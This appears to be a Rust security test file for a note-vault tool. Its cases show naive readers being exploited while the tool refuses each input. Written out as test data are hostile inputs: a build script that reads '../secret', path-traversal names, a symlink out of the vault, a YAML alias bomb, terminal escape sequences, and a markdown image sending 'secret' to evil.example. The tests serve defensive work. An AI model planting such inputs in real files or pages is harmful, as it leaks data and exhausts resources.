//! Attempts by what is in notes and files, first the way that a program would naively take them. Those by git are in
//! `tests/workspace/naive.rs`.

use std::path::Path;

use ado_vault::note;
use ado_vault::vault::{Scanner, Vault, init};

/// A note is looked at only in a vault.
fn vault(folder: &Path) -> Vault {
    init(&folder.join("vault")).unwrap();
    Vault::open(&folder.join("vault")).unwrap()
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn case_53_a_build_script_reads_the_machine_outside_of_the_sandbox_and_not_in_it() {
    use std::path::PathBuf;
    use std::time::Duration;

    use ado_vault::domain::{GateKind, SandboxProfile};
    use ado_vault::gates::{GateSpec, Parser, run};
    use ado_vault::sandbox::{Sandbox, SandboxPolicy};
    let sandbox = match Sandbox::detect(Path::new(env!("CARGO_BIN_EXE_ado-vault"))) {
        Ok(sandbox) => sandbox,
        Err(error) => return eprintln!("not run: {error}"),
    };
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path().canonicalize().unwrap().join("wt");
    std::fs::create_dir(&root).unwrap();
    std::fs::write(root.join("../secret"), "the secret").unwrap();
    std::fs::write(root.join("build.sh"), "cat ../secret\n").unwrap();
    let gate = GateSpec {
        name: "build".into(),
        kind: GateKind::Build,
        argv: ["sh", "build.sh"].map(String::from).to_vec(),
        cwd: PathBuf::new(),
        parser: Parser::Generic,
        timeout: Duration::from_secs(30),
        sandbox: SandboxProfile::Worktree,
        env: [].into(),
    };
    let policy = SandboxPolicy { write: vec![root.clone()], ..SandboxPolicy::default() };
    for (sandbox, told) in [(Sandbox::none(), true), (sandbox, false)] {
        let ran = run(&sandbox, &policy, &root, std::slice::from_ref(&gate), 20, &Default::default())
            .await
            .unwrap();
        assert_eq!(ran.results[0].tail.contains("the secret"), told, "{ran:?}");
    }
}

#[test]
fn case_55_a_name_with_dots_leaves_a_folder_when_it_is_joined_and_is_no_name_here() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir(folder.path().join("repos")).unwrap();
    std::fs::write(folder.path().join("secret.md"), "secret").unwrap();
    let name = "../secret";
    let joined = folder.path().join("repos").join(format!("{name}.md"));
    assert_eq!(std::fs::read_to_string(joined).unwrap(), "secret", "joining follows it");
    assert!(name.parse::<ado_vault::domain::RepoName>().is_err());
    assert!(ado_vault::domain::NotePath::new("10_features/../../secret.md").is_err());
}

#[test]
fn case_56_a_link_out_of_the_vault_is_followed_by_reading_and_not_by_a_scan() {
    let folder = tempfile::tempdir().unwrap();
    let vault = vault(folder.path());
    let secret = folder.path().join("secret.md");
    std::fs::write(&secret, "---\nid: FR-001\n---\nonly-outside\n").unwrap();
    let link = vault.root().join("10_features/03_planned/FR-001 x.md");
    std::os::unix::fs::symlink(&secret, &link).unwrap();
    assert!(std::fs::read_to_string(&link).unwrap().contains("only-outside"), "reading follows it");
    let scan = Scanner::new(&vault).scan().unwrap();
    assert!(scan.notes.iter().all(|note| !note.text().contains("only-outside")));
    assert!(scan.problems.iter().any(|problem| problem.code == "link-leaves-vault"), "{:?}", scan.problems);
}

#[test]
fn case_57_aliases_multiply_for_a_yaml_reader_and_are_refused_here() {
    let mut front = String::from("a0: &a0 [x, x, x, x, x, x, x, x]\n");
    for level in 1..5 {
        let before = format!("*a{}", level - 1);
        front.push_str(&format!("a{level}: &a{level} [{}]\n", vec![before; 8].join(", ")));
    }
    let grown: serde_yaml::Value = serde_yaml::from_str(&front).unwrap();
    let grown = serde_json::to_string(&grown).unwrap().len();
    assert!(grown > 100 * front.len(), "{} bytes became {grown}", front.len());
    let said = note::properties(&format!("---\n{front}---\n")).unwrap_err();
    assert!(said.iter().any(|problem| problem.is_error()), "{said:?}");
}

#[test]
fn case_58_a_huge_note_is_read_whole_by_plain_reading_and_not_by_a_scan() {
    let folder = tempfile::tempdir().unwrap();
    let vault = vault(folder.path());
    let path = vault.root().join("10_features/03_planned/FR-001 x.md");
    std::fs::write(&path, "x".repeat((1 << 20) + 1)).unwrap();
    assert!(std::fs::read_to_string(&path).unwrap().len() > 1 << 20);
    let scan = Scanner::new(&vault).scan().unwrap();
    assert!(scan.notes.iter().all(|note| note.text().len() <= 1 << 20));
    assert!(scan.problems.iter().any(|problem| problem.code == "note-too-large"));
}

/// Steps of a matcher that goes back and tries again, for `(a+)+b`.
fn steps(text: &[u8], count: &mut u64) -> bool {
    *count += 1;
    let run = text.iter().take_while(|byte| **byte == b'a').count();
    (1..=run).rev().any(|taken| {
        let rest = &text[taken..];
        rest.first() == Some(&b'b') || steps(rest, count)
    })
}

#[test]
fn case_59_a_pattern_that_makes_a_matcher_go_back_for_ever_costs_nothing_here() {
    let text = "a".repeat(22);
    let mut count = 0;
    assert!(!steps(text.as_bytes(), &mut count));
    assert!(count > 1 << 20, "{count} steps for 22 letters");
    // The engine behind `search` and every rule: its steps grow with the text alone, so this ends.
    let long = "a".repeat(1 << 20);
    assert!(!regex::Regex::new("(a+)+b").unwrap().is_match(&long));
}

#[test]
fn case_60_sequences_for_the_terminal_are_in_the_text_and_not_in_what_is_shown() {
    let hostile = "ok\u{1b}[2J\u{1b}]0;title\u{7}\u{202e}txt.exe\u{9b}31m";
    assert!(hostile.contains('\u{1b}'), "printing passes it on");
    let shown = note::plain(hostile);
    assert!(shown.chars().all(|c| !c.is_control() && !('\u{202a}'..='\u{202e}').contains(&c)), "{shown:?}");
    assert!(shown.starts_with("ok"));
}

#[test]
fn case_63_an_image_carries_data_away_when_it_is_rendered_and_is_a_link_in_what_is_published() {
    let hostile = "![x](https://evil.example/?q=secret)";
    let mut events = pulldown_cmark::Parser::new(hostile);
    let loads =
        events.any(|event| matches!(event, pulldown_cmark::Event::Start(pulldown_cmark::Tag::Image { .. })));
    assert!(loads, "a reader would load it");
    // That published texts hold none is shown where they are made: `forge/inert.rs`.
}
